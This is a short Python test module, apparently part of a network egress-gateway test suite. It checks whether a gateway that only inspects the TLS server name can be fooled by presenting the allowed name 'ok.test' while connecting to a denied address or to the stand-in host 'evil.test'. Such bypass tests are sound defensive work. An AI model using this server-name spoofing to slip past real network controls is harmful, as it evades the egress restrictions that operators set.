# SPDX-License-Identifier: Apache-2.0
"""The allowed server name, sent to somebody else: what fools a gateway that only reads names."""
import tls
from bypass import get

TITLE = "the allowed server name to a denied address"
THREAT = "26"


def attack(c):
    with c.step("bare ClientHello") as token:
        c.send_address(c.e, 443, tls.client_hello("ok.test", random=token))
    with c.step("real client, after a lookup") as token:
        if not c.proxy:
            c.lookup("ok.test")
        with c.tls(c.dial_address(c.e, 443), "ok.test") as s:
            c.talk(s, get("ok.test", f"/{token}"))
    with c.step("to a denied name") as token:
        with c.tls(c.dial("evil.test", 443), "ok.test") as s:
            c.talk(s, get("ok.test", f"/{token}"))
